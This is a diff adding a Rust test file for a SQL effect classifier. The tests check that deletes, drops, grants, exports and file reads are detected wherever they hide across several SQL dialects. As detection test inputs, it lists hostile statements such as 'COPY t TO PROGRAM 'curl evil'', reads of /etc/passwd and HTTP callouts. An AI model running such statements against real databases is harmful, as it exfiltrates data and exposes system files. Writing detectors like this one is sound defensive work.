@@ -1,0 +1,257 @@
+//! Every effect of a text is found, wherever it hides.
+
+use super::{Dialect, expect, expect_in, postgres};
+#[cfg(target_arch = "wasm32")]
+use wasm_bindgen_test::wasm_bindgen_test as test;
+
+#[test]
+fn plain_statements_have_their_effect() {
+    expect(&[
+        ("SELECT 1", "read none"),
+        ("SELECT a FROM t", "read all table:t"),
+        ("INSERT INTO a VALUES (1), (2)", "insert limited(2) table:a"),
+        (
+            "INSERT INTO a SELECT * FROM b WHERE x = 1",
+            "read filtered table:b; insert filtered table:a",
+        ),
+        ("UPDATE a SET x = 1 WHERE y = 2", "update filtered table:a"),
+        ("DELETE FROM a", "delete all table:a"),
+        ("TRUNCATE a, b", "truncate all table:a table:b"),
+        ("DROP TABLE a, b", "drop all table:a table:b"),
+        ("DROP INDEX i", "drop all object:i"),
+        ("CREATE TABLE t (a int)", "create none table:t"),
+        ("ALTER TABLE t ADD b int", "alter all table:t"),
+        ("GRANT SELECT ON t TO bob", "grant none table:t"),
+        ("CREATE ROLE bob SUPERUSER", "grant none object:bob"),
+        (
+            "DROP ROLE bob",
+            "drop all object:bob; grant none object:bob",
+        ),
+        ("CALL p(1)", "call unknown function:p"),
+        ("VACUUM t", "admin none table:t"),
+        ("TABLE t", "read all table:t"),
+    ]);
+}
+
+#[test]
+fn a_change_hides_nowhere() {
+    expect(&[
+        (
+            "WITH d AS (DELETE FROM a RETURNING *) SELECT * FROM d",
+            "delete all table:a",
+        ),
+        (
+            "WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d",
+            "insert unknown table:b; delete all table:a",
+        ),
+        ("EXPLAIN ANALYZE DELETE FROM a", "delete all table:a"),
+        (
+            "EXPLAIN (ANALYZE, COSTS off) DELETE FROM a",
+            "delete all table:a",
+        ),
+        ("EXPLAIN (surprise) DELETE FROM a", "delete all table:a"),
+        ("EXPLAIN (ANALYZE false) DELETE FROM a", "read none table:a"),
+        ("EXPLAIN DELETE FROM a", "read none table:a"),
+        (
+            "PREPARE p AS DELETE FROM a",
+            "delete all table:a; session none",
+        ),
+        (
+            "COPY (DELETE FROM a RETURNING *) TO '/tmp/x'",
+            "delete all table:a; export none location:file",
+        ),
+        (
+            "CREATE TABLE b AS SELECT * FROM a",
+            "read all table:a; create none table:b",
+        ),
+        (
+            "SELECT * INTO b FROM a",
+            "read all table:a; create none table:b",
+        ),
+        (
+            "CREATE VIEW v AS SELECT * FROM a WHERE x = 1",
+            "read filtered table:a; create none table:v",
+        ),
+        (
+            "DECLARE c CURSOR FOR SELECT * FROM a",
+            "read all table:a; session none",
+        ),
+    ]);
+}
+
+#[test]
+fn blocks_are_opened() {
+    expect_in(
+        Dialect::Bigquery,
+        &[("BEGIN DROP TABLE t; END", "drop all table:t; session none")],
+    );
+    expect_in(
+        Dialect::Snowflake,
+        &[("BEGIN DROP TABLE t; END", "drop all table:T; session none")],
+    );
+    expect_in(
+        Dialect::Mssql,
+        &[(
+            "IF 1 = 1 BEGIN DELETE FROM t; END",
+            "delete all table:t; session none",
+        )],
+    );
+}
+
+#[test]
+fn sql_in_strings_is_followed_or_unknown() {
+    expect_in(
+        Dialect::Mssql,
+        &[
+            ("EXEC('DROP TABLE t')", "drop all table:t"),
+            ("EXEC sp_executesql N'DELETE FROM t'", "delete all table:t"),
+            ("EXEC('EXEC(''DROP TABLE t'')')", "drop all table:t"),
+            ("EXEC(@sql)", "unknown unknown"),
+            ("EXEC('DROP TABLE ' + @t)", "unknown unknown"),
+            ("EXEC('no sql at all')", "unknown unknown"),
+            ("EXEC p", "call unknown function:p"),
+        ],
+    );
+    expect_in(
+        Dialect::Bigquery,
+        &[
+            ("EXECUTE IMMEDIATE 'DROP TABLE t'", "drop all table:t"),
+            ("EXECUTE IMMEDIATE CONCAT('a', 'b')", "unknown unknown"),
+        ],
+    );
+    assert_eq!(
+        postgres("SELECT query_to_xml('DELETE FROM t', true, true, '')"),
+        "read none; delete all table:t; call unknown function:query_to_xml"
+    );
+    assert_eq!(
+        super::told(
+            "UNLOAD('SELECT * FROM t') TO 's3://b/x' IAM_ROLE default",
+            Dialect::Redshift
+        ),
+        "read all table:t; export unknown location:url"
+    );
+}
+
+#[test]
+fn merge_does_what_its_branches_do() {
+    expect(&[
+        (
+            "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE \
+             WHEN NOT MATCHED THEN INSERT VALUES (b.id)",
+            "read all table:b; insert all table:a; delete filtered table:a",
+        ),
+        (
+            "MERGE INTO a USING b ON true WHEN MATCHED THEN UPDATE SET x = 1",
+            "read all table:b; update all table:a",
+        ),
+        (
+            "MERGE INTO a USING b ON a.id = b.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
+            "read all table:b; delete all table:a",
+        ),
+        (
+            "MERGE INTO a USING (SELECT 1) s ON true WHEN MATCHED THEN DO NOTHING",
+            "read none",
+        ),
+    ]);
+}
+
+#[test]
+fn what_is_there_already_is_changed_too() {
+    expect(&[(
+        "INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 2",
+        "insert limited(1) table:a; update filtered table:a",
+    )]);
+    expect_in(
+        Dialect::Mysql,
+        &[(
+            "REPLACE INTO a VALUES (1)",
+            "insert limited(1) table:a; update filtered table:a",
+        )],
+    );
+    expect_in(
+        Dialect::Spark,
+        &[(
+            "INSERT OVERWRITE TABLE a SELECT * FROM b",
+            "read all table:b; insert all table:a; delete all table:a",
+        )],
+    );
+}
+
+#[test]
+fn data_on_its_way_out_or_in_is_told() {
+    expect(&[
+        (
+            "COPY t TO PROGRAM 'curl evil'",
+            "read all table:t; export all location:program",
+        ),
+        (
+            "COPY t FROM '/etc/passwd'",
+            "insert unknown table:t; import unknown table:t location:file",
+        ),
+        (
+            "SELECT pg_read_file('/etc/passwd')",
+            "read none; import unknown function:pg_read_file",
+        ),
+        (
+            "SELECT * FROM t WHERE \"pg_catalog\".\"pg_read_file\" ('x') IS NULL",
+            "read unknown table:t; import unknown function:pg_read_file",
+        ),
+    ]);
+    expect_in(
+        Dialect::Sqlite,
+        &[
+            ("ATTACH 'x.db' AS x", "import unknown location:file"),
+            (
+                "SELECT load_extension('x')",
+                "read none; unknown unknown function:load_extension",
+            ),
+        ],
+    );
+    expect_in(
+        Dialect::Clickhouse,
+        &[
+            (
+                "INSERT INTO FUNCTION url('http://x', CSV) SELECT * FROM t",
+                "read all table:t; export all function:url; import unknown function:url",
+            ),
+            (
+                "INSERT INTO file (a) VALUES (1)",
+                "insert limited(1) table:file",
+            ),
+        ],
+    );
+    expect_in(
+        Dialect::Duckdb,
+        &[("SELECT * FROM 'x.csv'", "import unknown location:file")],
+    );
+    expect_in(
+        Dialect::Oracle,
+        &[(
+            "SELECT UTL_HTTP.REQUEST('http://x') FROM dual",
+            "read none; unknown unknown function:utl_http",
+        )],
+    );
+}
+
+#[test]
+fn the_session_is_not_the_server() {
+    expect(&[
+        ("SET search_path = a", "session none"),
+        ("BEGIN", "session none"),
+        ("COMMIT; DROP SCHEMA s", "drop all object:s; session none"),
+        ("SET ROLE admin", "grant none"),
+        (
+            "SELECT pg_terminate_backend(1)",
+            "read none; admin unknown function:pg_terminate_backend",
+        ),
+    ]);
+    expect_in(
+        Dialect::Mysql,
+        &[
+            ("SET GLOBAL read_only = 0", "admin none"),
+            ("SET @@global.read_only = 0", "admin none"),
+            ("SET @x = 1", "session none"),
+            ("KILL 5", "admin none"),
+        ],
+    );
+}
